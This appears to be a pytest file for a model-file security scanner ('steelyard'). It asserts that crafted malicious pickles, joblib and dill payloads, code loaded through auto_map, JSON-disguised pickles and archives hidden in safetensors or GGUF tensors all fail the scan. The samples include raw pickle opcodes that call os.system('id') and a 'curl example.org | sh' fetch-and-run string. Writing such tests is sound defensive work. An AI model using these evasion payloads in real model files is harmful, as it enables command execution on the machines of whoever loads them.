# SPDX-License-Identifier: Apache-2.0
"""Files made to get past scanners: none passes, none merely warns.

Each case is a way around a check that was found in this scanner or published of another.
"""

import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from steelyard.core.policy import Outcome
from tests.samples.opcodes import (
    EMPTY_DICT,
    NONE,
    SYSTEM,
    attribute,
    binary,
    build,
    call,
    dict_of,
    integer,
    list_of,
    pickled,
    text,
    thing,
    tuple_of,
)
from tests.samples.verdicts import verdict, verdict_on

FILE = call(thing("pathlib.PosixPath"), text("/tmp/x"))
NUMBERS = call(
    thing("numpy.core.multiarray._reconstruct"), thing("numpy.ndarray"), tuple_of(), binary(b"b")
)
FRAME = call(thing("pandas.DataFrame"))
METHODS = {
    "path": attribute(FILE, "write_bytes"),
    "path-class": attribute(thing("pathlib.Path"), "unlink"),
    "array": attribute(NUMBERS, "tofile"),
    "array-class": attribute(thing("numpy.ndarray"), "dump"),
    "frame": attribute(FRAME, "eval"),
    "frame-class": attribute(thing("pandas.core.frame.DataFrame"), "to_pickle"),
    "storage": attribute(thing("torch.UntypedStorage"), "from_file"),
    "unknown": attribute(thing("library.Thing"), "run"),
}
CALLERS = {
    "function": call(
        thing("scipy.optimize._differentiable_functions.ScalarFunction"), b"%s", NUMBERS
    ),
    "operator": call(thing("scipy.sparse.linalg._interface.LinearOperator"), tuple_of(), b"%s"),
    "schedule": call(
        thing("torch.optim.lr_scheduler.LambdaLR"), NONE, list_of(*[NONE] * 20, b"%s")
    ),
}


@pytest.mark.parametrize("caller", CALLERS)
@pytest.mark.parametrize("method", METHODS)
def test_a_method_is_not_handed_to_a_class_that_calls_it(
    tmp_path: Path, method: str, caller: str
) -> None:
    data = pickled(CALLERS[caller].replace(b"%s", METHODS[method]))
    assert verdict(tmp_path, "model.pkl", data) is Outcome.FAIL


WRITES = METHODS["path"]
SHADOWS = {
    "append": build(call(thing("sklearn.base.BaseEstimator")), dict_of("append", WRITES))
    + text("data")
    + b"a",
    "setstate": build(
        build(thing("sklearn.base.BaseEstimator") + b")\x81", dict_of("__setstate__", WRITES)),
        text("data"),
    ),
    "key of a series": call(thing("pandas.Series"), list_of(integer(1))) + WRITES + NONE + b"s",
    "sort key": call(
        build(
            call(thing("functools.partial"), thing("builtins.sorted")),
            tuple_of(
                thing("builtins.sorted"),
                tuple_of(list_of(text("a"))),
                dict_of("key", WRITES),
                NONE,
            ),
        )
    ),
    "attributes of internals": call(thing("operator.attrgetter"), text("__init__.__globals__")),
}


@pytest.mark.parametrize("case", SHADOWS)
def test_a_method_is_not_put_where_the_unpickler_calls_it(tmp_path: Path, case: str) -> None:
    assert verdict(tmp_path, "model.pkl", pickled(SHADOWS[case])) is Outcome.FAIL


def _many(last: bytes) -> bytes:
    calls = [call(thing("library.Thing"), text(f"name{i}")) + b"0" for i in range(200)]
    return pickled(b"".join(calls) + last)


@pytest.mark.parametrize(
    "last",
    [
        call(thing("library.Thing"), text("curl example.org | sh")),
        call(thing("library.Thing"), list_of(text("curl example.org | sh"))),
        call(thing("library.Thing"), list_of(*[NONE] * 20, thing("library.run"))),
    ],
    ids=["text", "text in a list", "function behind many items"],
)
def test_many_harmless_calls_do_not_hide_another(tmp_path: Path, last: bytes) -> None:
    assert verdict(tmp_path, "model.pkl", _many(last)) is Outcome.FAIL


WRAPPER = thing("joblib.numpy_pickle.NumpyArrayWrapper")
STATE = (
    EMPTY_DICT
    + b"("
    + text("shape")
    + tuple_of(integer(5))
    + text("dtype")
    + build(
        call(thing("numpy.dtype"), text("u1")),
        tuple_of(integer(3), text("|"), NONE, NONE, NONE, integer(-1), integer(-1), integer(0)),
    )
    + b"u"
)
SWALLOWING = b"X" + struct.pack("<I", len(SYSTEM) + 1)  # a text, if it is read as opcodes


@pytest.mark.parametrize(
    "wrapper",
    [
        call(thing("copyreg._reconstructor"), WRAPPER, thing("builtins.object"), NONE),
        call(thing("copy_reg._reconstructor"), WRAPPER, thing("builtins.object"), NONE),
        call(thing("copyreg.__newobj__"), WRAPPER),
        WRAPPER + b")\x81",
        WRAPPER + b")}\x92",
        call(attribute(WRAPPER, "__new__"), WRAPPER),
        call(WRAPPER),
    ],
    ids=["reconstructor", "python 2", "newobj", "NEWOBJ", "NEWOBJ_EX", "attribute", "call"],
)
def test_bytes_of_an_array_of_joblib_do_not_swallow_opcodes(tmp_path: Path, wrapper: bytes) -> None:
    data = pickled(wrapper + STATE + b"b" + SWALLOWING + SYSTEM + b"0")
    assert verdict(tmp_path, "model.joblib", data) is Outcome.FAIL


OLD_SYSTEM = b"cos\nsystem\n(S'id'\ntR"
LOOK_LIKE_TEXT = {
    "noise behind the call": OLD_SYSTEM + b"cno such thing\nat all, no\n and prose",
    "noise in the same breath": OLD_SYSTEM + b"cno such thing\n" + b"x" * 2000 + b"\n.",
    "line ends of another system": b"cos\r\nsystem\r\n(S'id'\ntR.",
    "numbers before it": b"I5\n.I6\n.N." + OLD_SYSTEM + b".",
    "imports before it": b"cdatetime\ndate\n." + OLD_SYSTEM + b".",
}


@pytest.mark.parametrize("name", ["notes.txt", "model.pkl", "data"])
@pytest.mark.parametrize("case", LOOK_LIKE_TEXT)
def test_a_pickle_made_to_look_like_text_fails(tmp_path: Path, case: str, name: str) -> None:
    assert verdict(tmp_path, name, LOOK_LIKE_TEXT[case]) is Outcome.FAIL


CODE = {
    "constructor": "import os\nclass M:\n    def __init__(self):\n        os.system('id')\n",
    "helper of a constructor": (
        "import os\nclass M:\n    def __init__(self):\n        self.prepare()\n"
        "    def prepare(self):\n        os.system('id')\n"
    ),
    "module handed to a lambda": "(lambda m: m.system('id'))(__import__('os'))\n",
    "method by name": "import os, operator\noperator.methodcaller('system', 'id')(os)\n",
}


@pytest.mark.parametrize("case", CODE)
def test_code_that_a_configuration_names_runs_no_command_unseen(tmp_path: Path, case: str) -> None:
    (tmp_path / "modeling_x.py").write_text(CODE[case])
    (tmp_path / "config.json").write_text('{"auto_map": {"AutoModel": "modeling_x.M"}}')
    assert verdict_on(tmp_path) is Outcome.FAIL


def _safetensors(data: bytes) -> bytes:
    header = f'{{"a":{{"dtype":"U8","shape":[{len(data)}],"data_offsets":[0,{len(data)}]}}}}'
    return struct.pack("<Q", len(header)) + header.encode() + data


def _gguf(data: bytes) -> bytes:
    data = bytes(-len(data) % 32) + data  # an archive may have something before it
    tensor = struct.pack("<Q1sIQIQ", 1, b"a", 1, len(data), 24, 0)
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, 0) + tensor
    return head + bytes(-len(head) % 32) + data


@pytest.mark.parametrize("form", [_safetensors, _gguf], ids=["safetensors", "gguf"])
def test_an_archive_inside_the_numbers_of_a_tensor_is_read(
    tmp_path: Path, form: Callable[[bytes], bytes]
) -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("data.pkl", pickled(SYSTEM))
    assert verdict(tmp_path, "model", form(file.getvalue())) is Outcome.FAIL
    numbers = bytes(range(256)) * 3
    assert verdict(tmp_path, "other", form(numbers)) is Outcome.PASS


TEXT_PICKLE = b"cos\nsystem\n(S'id'\ntR."
IN_DISGUISE = {
    "json": TEXT_PICKLE,
    "keras": b"(S'\"class_name\"'\n0cos\nsystem\n(S'id'\ntR.",
    "skops": b'(S\'"__loader__" "__class__" "__module__"\'\n0cos\nsystem\n(S\'id\'\ntR.',
    "exported": b"(S'\"graph_module\"'\n0cos\nsystem\n(S'id'\ntR.",
}


@pytest.mark.parametrize("name", ["model.json", "data.jsonl", "x.ndjson", "config.json"])
@pytest.mark.parametrize("data", IN_DISGUISE.values(), ids=IN_DISGUISE)
def test_a_pickle_of_text_named_as_json_is_a_pickle(name: str, data: bytes, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    assert verdict_on(path) is Outcome.FAIL


def test_an_archive_behind_json_is_an_archive(tmp_path: Path) -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a/data.pkl", TEXT_PICKLE)
    path = tmp_path / "config.json"
    path.write_bytes(b'{"a": 1}' + file.getvalue())
    assert verdict_on(path) is Outcome.FAIL


def test_what_makes_arrays_of_dill_calls_no_other_function(tmp_path: Path) -> None:
    made = call(thing("dill._dill._create_array"), thing("os.system"), tuple_of(text("id")), NONE)
    assert verdict(tmp_path, "a.dill", pickled(made)) is Outcome.FAIL
